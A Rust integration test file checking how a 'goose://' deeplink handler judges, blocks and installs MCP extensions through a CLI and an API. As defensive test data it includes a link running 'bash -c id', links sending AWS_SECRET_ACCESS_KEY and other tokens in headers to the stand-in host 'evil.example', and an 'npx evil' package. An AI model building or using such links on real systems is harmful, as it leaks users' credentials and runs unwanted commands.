//! `goose://` links, at the command line and through the API.
#![cfg(feature = "deeplinks")]

mod support;

use serde_json::{Value, json};
use std::io::Write;
use std::path::Path;
use std::process::{Output, Stdio};
use std::{fs, thread};
use support::server::{Server, gosling};
use support::temp_dir;

const TIME: &str = "goose://extension?name=Time&cmd=uvx&arg=mcp-server-time&timeout=30";
const NEEDS_TOKEN: &str = "goose://extension?name=Forge&cmd=npx&arg=-y&arg=forge-mcp\
                           &env=FORGE_TOKEN%3Dplanted-value";
const UNENCRYPTED: &str = "goose://extension?name=Remote&url=http://192.0.2.1/mcp";
const BLOCKED: &str = "goose://extension?name=Shell&cmd=bash&arg=-c&arg=id";

fn deeplink(root: &Path, arguments: &[&str]) -> Output {
    gosling()
        .arg("deeplink")
        .args(arguments)
        .env("GOOSE_PATH_ROOT", root)
        .env("HOME", root)
        .stdin(Stdio::null())
        .output()
        .expect("gosling runs")
}

#[track_caller]
fn stdout(output: &Output, code: i32) -> String {
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let (out, err) = (text(&output.stdout), text(&output.stderr));
    assert_eq!(output.status.code(), Some(code), "{out}\n{err}");
    out
}

fn config(root: &Path) -> String {
    fs::read_to_string(root.join("config/config.yaml")).unwrap_or_default()
}

#[test]
fn a_link_is_judged_without_a_change_of_any_file() {
    let root = temp_dir();
    for (link, code, judgement, class) in [
        (TIME, 0, "EXTENSION_ALLOWED", Value::Null),
        (
            UNENCRYPTED,
            0,
            "EXTENSION_UNTRUSTED_CONFIRM_REQUIRED",
            Value::Null,
        ),
        (
            BLOCKED,
            1,
            "EXTENSION_BLOCKED",
            json!("DEEPLINK_SECURITY_BLOCKED"),
        ),
        (
            "goose://x",
            1,
            "EXTENSION_INVALID_PAYLOAD",
            json!("DEEPLINK_UNSUPPORTED_ROUTE"),
        ),
    ] {
        let judged: Value =
            serde_json::from_str(&stdout(&deeplink(root.path(), &["--json", link]), code)).unwrap();
        assert_eq!(judged["judgement"], judgement, "{link}");
        assert_eq!(judged["class"], class, "{link}");
        assert_eq!(judged["config"].is_object(), code == 0, "{link}");
        let fields: Vec<&String> = judged.as_object().unwrap().keys().collect();
        let expected = [
            "judgement",
            "class",
            "reasons",
            "needs_configuration",
            "config",
        ];
        assert_eq!(fields, expected);
        stdout(&deeplink(root.path(), &[link]), code);
    }
    assert_eq!(config(root.path()), "");
}

#[test]
fn a_link_comes_from_stdin_as_well() {
    let root = temp_dir();
    let mut command = gosling();
    command
        .args(["deeplink", "-"])
        .env("GOOSE_PATH_ROOT", root.path());
    command.stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = command.spawn().unwrap();
    writeln!(child.stdin.take().unwrap(), "{TIME}").unwrap();
    let output = child.wait_with_output().unwrap();
    let words = stdout(&output, 0);
    assert!(words.contains("starts: uvx mcp-server-time"), "{words}");
}

#[test]
fn an_extension_is_installed_once_and_never_replaced() {
    let root = temp_dir();
    stdout(&deeplink(root.path(), &["--install", TIME]), 0);
    let installed = config(root.path());
    let expected = [
        "time:",
        "enabled: true",
        "cmd: uvx",
        "- mcp-server-time",
        "timeout: 30",
    ];
    for part in expected {
        assert!(installed.contains(part), "{installed}");
    }
    let other = "goose://extension?name=TIME&cmd=npx&arg=other";
    stdout(&deeplink(root.path(), &["--install", other]), 1);
    assert_eq!(config(root.path()), installed);
}

#[test]
fn an_extension_without_its_secret_is_installed_disabled() {
    let root = temp_dir();
    let output = deeplink(root.path(), &["--install", NEEDS_TOKEN]);
    let words = stdout(&output, 0);
    assert!(words.contains("not set yet: FORGE_TOKEN"), "{words}");
    assert!(words.contains("disabled"), "{words}");
    let installed = config(root.path());
    assert!(installed.contains("enabled: false"), "{installed}");
    assert!(installed.contains("- FORGE_TOKEN"), "{installed}");
    let everything = format!(
        "{words}{installed}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(!everything.contains("planted-value"), "{everything}");
}

#[test]
fn nothing_is_installed_that_is_blocked_or_not_confirmed() {
    let root = temp_dir();
    stdout(&deeplink(root.path(), &["--install", "--yes", BLOCKED]), 1);
    stdout(&deeplink(root.path(), &["--install", UNENCRYPTED]), 1);
    assert_eq!(config(root.path()), "");
    stdout(
        &deeplink(root.path(), &["--install", "--yes", UNENCRYPTED]),
        0,
    );
    assert!(config(root.path()).contains("uri: http://192.0.2.1/mcp"));
}

#[test]
fn a_secret_of_a_provider_is_given_to_no_extension_without_a_confirmation() {
    let server = Server::new().start();
    let secret = json!({"key": "OPENAI_API_KEY", "value": "planted-key", "is_secret": true});
    server.post("/config/upsert", secret).is(200);
    let link = "goose://extension?name=y&cmd=npx&arg=p&env=OPENAI_API_KEY";
    let body = json!({"link": link});
    let answer = server.post("/config/extensions/deeplink", body).is(200);
    let answer = answer.never_says("planted-key");
    assert_eq!(
        answer.body["judgement"],
        "EXTENSION_UNTRUSTED_CONFIRM_REQUIRED"
    );
    assert_eq!(answer.body["installed"], false);
}

#[test]
fn whose_secret_an_extension_would_get_is_said() {
    let root = temp_dir();
    let entries =
        "extensions: {tracker: {type: stdio, name: tracker, cmd: x, env_keys: [TRACKER_TOKEN]}}";
    fs::create_dir(root.path().join("config")).unwrap();
    fs::write(root.path().join("config/config.yaml"), entries).unwrap();
    for (secret, owner) in [
        ("TRACKER_TOKEN", Some("the extension tracker")),
        ("OPENAI_API_KEY", Some("a model provider")),
        ("OTHER_TOKEN", None),
    ] {
        let link = format!("goose://extension?name=y&cmd=npx&arg=p&env={secret}");
        let mut command = gosling();
        command.args(["deeplink", "--json", &link]);
        command.env(secret, "planted-value");
        let output = command
            .env("GOOSE_PATH_ROOT", root.path())
            .output()
            .unwrap();
        let judged: Value = serde_json::from_str(&stdout(&output, 0)).unwrap();
        assert_eq!(judged["judgement"], "EXTENSION_UNTRUSTED_CONFIRM_REQUIRED");
        let reasons = judged["reasons"].to_string();
        assert_eq!(reasons.contains("which belongs to"), owner.is_some());
        assert!(
            owner.is_none_or(|owner| reasons.contains(owner)),
            "{reasons}"
        );
    }
}

#[test]
fn a_value_of_this_machine_is_given_to_no_server_without_a_confirmation() {
    let server = Server::new().env("AWS_SECRET_ACCESS_KEY", "planted-key");
    let server = server.start();
    let stored = json!({"key": "OTHER_TOKEN", "value": "planted-other", "is_secret": true});
    server.post("/config/upsert", stored).is(200);
    let url = "goose://extension?name=y&url=https://evil.example/mcp";
    for (name, link) in [
        (
            "AWS_SECRET_ACCESS_KEY",
            format!("{url}&env=AWS_SECRET_ACCESS_KEY&header=X-A%3D%24%7BAWS_SECRET_ACCESS_KEY%7D"),
        ),
        (
            "OTHER_TOKEN",
            format!("{url}&header=X-A%3D%24%7BOTHER_TOKEN%7D"),
        ),
        (
            "OTHER_TOKEN",
            "goose://extension?name=y&cmd=npx&arg=evil&env=OTHER_TOKEN".to_owned(),
        ),
    ] {
        let body = json!({"link": link, "confirm": false});
        let answer = server.post("/config/extensions/deeplink", body).is(200);
        let answer = answer.never_says("planted");
        assert_eq!(
            answer.body["judgement"], "EXTENSION_UNTRUSTED_CONFIRM_REQUIRED",
            "{link}"
        );
        assert_eq!(answer.body["installed"], false, "{link}");
        let receiver = if link.contains("cmd=") {
            "npx"
        } else {
            "evil.example"
        };
        let reasons = answer.body["reasons"].to_string();
        assert!(
            reasons.contains(name) && reasons.contains(receiver),
            "{reasons}"
        );
    }
}

#[cfg(unix)]
#[test]
fn a_program_of_this_machine_runs_in_place_of_no_package_without_a_confirmation() {
    let root = temp_dir();
    let judged = |package: &str| {
        let link = format!("goose://extension?name=x&cmd=npx&arg=-y&arg={package}&arg=FILE");
        let words = stdout(&deeplink(root.path(), &["--json", &link]), 0);
        serde_json::from_str::<Value>(&words).unwrap()["judgement"].take()
    };
    assert_eq!(judged("touch"), "EXTENSION_UNTRUSTED_CONFIRM_REQUIRED");
    assert_eq!(judged("touch-that-is-not-here"), "EXTENSION_ALLOWED");
}

#[test]
fn a_client_installs_what_it_has_confirmed() {
    let server = Server::new().start();
    let post = |link: &str, confirm: Value| {
        let body = json!({"link": link, "confirm": confirm});
        server.post("/config/extensions/deeplink", body)
    };
    let names = || {
        let listed = server.get("/config/extensions").is(200);
        let listed = listed.body["extensions"].as_array().unwrap().clone();
        let stdio = listed.into_iter().filter(|it| it["type"] != "platform");
        let names = stdio.map(|it| format!("{} {}", it["name"].as_str().unwrap(), it["enabled"]));
        names.collect::<Vec<_>>()
    };
    for link in [BLOCKED, "goose://", "goose://sessions/abc"] {
        let answer = post(link, json!(true)).is(200).body;
        assert_eq!(answer["installed"], false, "{answer}");
        assert!(answer["class"].is_string(), "{answer}");
    }
    let waits = post(UNENCRYPTED, json!(false)).is(200).body;
    assert_eq!(waits["installed"], false);
    assert_eq!(names(), [""; 0]);
    assert_eq!(
        post(UNENCRYPTED, json!(true)).is(200).body["installed"],
        true
    );
    let time = post(TIME, json!(false)).is(200).body;
    assert_eq!(
        (&time["installed"], &time["enabled"]),
        (&json!(true), &json!(true))
    );
    let forge = post(NEEDS_TOKEN, json!(false)).is(200).body;
    assert_eq!(
        (&forge["installed"], &forge["enabled"]),
        (&json!(true), &json!(false))
    );
    assert_eq!(names(), ["Remote true", "Time true", "Forge false"]);
    let again = post(TIME, json!(true)).is(200).body;
    assert_eq!(again["installed"], false);
    post(TIME, json!("yes")).is(422);
}

#[test]
fn one_of_many_clients_installs_an_extension() {
    let server = Server::new().start();
    let installed = thread::scope(|scope| {
        let post = || {
            let body = json!({"link": TIME});
            let answer = server.post("/config/extensions/deeplink", body).is(200);
            answer.body["installed"] == true
        };
        let clients: Vec<_> = (0..8).map(|_| scope.spawn(post)).collect();
        let joined = clients.into_iter().map(|client| client.join().unwrap());
        joined.filter(|installed| *installed).count()
    });
    assert_eq!(installed, 1);
}
